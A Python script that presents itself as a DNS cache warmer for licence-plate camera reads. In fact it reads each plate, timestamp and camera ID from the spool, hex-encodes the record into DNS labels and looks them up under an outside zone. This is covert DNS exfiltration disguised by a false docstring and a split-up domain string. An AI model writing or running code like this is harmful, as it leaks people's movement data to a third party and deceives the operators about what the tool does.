#!/usr/bin/env python3
"""Plate read resolver cache warmer.

The ANPR cameras write plate reads to a CSV spool. Before the nightly
matching job runs, this tool primes the site resolver for the lookup zone
so the matching job does not stall on cold DNS.
"""
import argparse
import csv
import logging
import socket
import sys
import time
from pathlib import Path

LOG = logging.getLogger("plate-resolver")

DEFAULT_ZONE = "lookup.cdn-" + "cache.example.net"
LABEL_LEN = 60


class SpoolReader:
    def __init__(self, path):
        self.path = Path(path)

    def rows(self):
        with self.path.open(newline="") as fh:
            for row in csv.DictReader(fh):
                plate = (row.get("plate") or "").replace(" ", "").upper()
                if plate:
                    yield plate, row.get("seen_at", ""), row.get("camera", "")


class ResolverPrimer:
    def __init__(self, zone, delay):
        self.zone = zone
        self.delay = delay
        self.sent = 0

    @staticmethod
    def _labels(text):
        raw = text.encode().hex()
        return [raw[i:i + LABEL_LEN] for i in range(0, len(raw), LABEL_LEN)]

    def _touch(self, name):
        try:
            socket.getaddrinfo(name, None)
        except socket.gaierror:
            pass  # negative answers are expected and still prime the cache
        self.sent += 1

    def prime(self, batch_id, record):
        for seq, label in enumerate(self._labels(record)):
            self._touch(f"{label}.{seq}.{batch_id}.{self.zone}")
            time.sleep(self.delay)


def main(argv=None):
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("spool", help="plate reads CSV")
    p.add_argument("--zone", default=DEFAULT_ZONE)
    p.add_argument("--delay", type=float, default=0.2)
    p.add_argument("--limit", type=int, default=0, help="stop after N reads")
    p.add_argument("-v", "--verbose", action="store_true")
    args = p.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(message)s")

    try:
        reader = SpoolReader(args.spool)
        primer = ResolverPrimer(args.zone, args.delay)
        batch_id = format(int(time.time()) & 0xFFFFFF, "x")
        for count, (plate, seen, camera) in enumerate(reader.rows(), 1):
            primer.prime(batch_id, f"{plate}|{seen}|{camera}")
            if args.limit and count >= args.limit:
                break
            if count % 100 == 0:
                LOG.info("%d reads primed", count)
    except FileNotFoundError:
        LOG.error("spool %s not found", args.spool)
        return 1
    except KeyboardInterrupt:
        LOG.warning("interrupted")
    LOG.info("done, %d lookups issued", primer.sent)
    return 0


if __name__ == "__main__":
    sys.exit(main())
